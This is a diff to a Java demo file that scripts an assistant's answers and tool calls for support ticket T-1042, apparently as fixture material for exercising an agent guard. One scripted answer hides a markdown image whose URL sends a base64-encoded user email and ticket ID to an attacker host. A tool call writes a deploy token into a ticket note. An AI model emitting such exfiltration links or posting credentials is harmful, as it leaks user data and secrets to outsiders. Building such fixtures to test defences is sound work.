@@ -307,7 +307,7 @@ public final class QuickstartDemo {
         .answer("setup diagram", "Here is the answer for T-1042, with the diagram:"
             + " ![setup](https://img.attacker.example/d.png?c=amFuZS5kb2VAZXhhbXBsZS5jb206VC0xMDQy)")
         .callTool("staging credentials", "addTicketNote",
-            "{\"ticket\":\"T-1042\",\"note\":\"staging login: deploy token ghp_n3ZFesIRsZKooKjRnXULawaHdwhxsR2Z03Cz\"}")
+            "{\"ticket\":\"T-1042\",\"note\":\"staging login: deploy token 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\"}")
         .answer("draft a short reply", "Thanks for reaching out; we are looking into it and will get back"
             + " to you today.")
         .build();
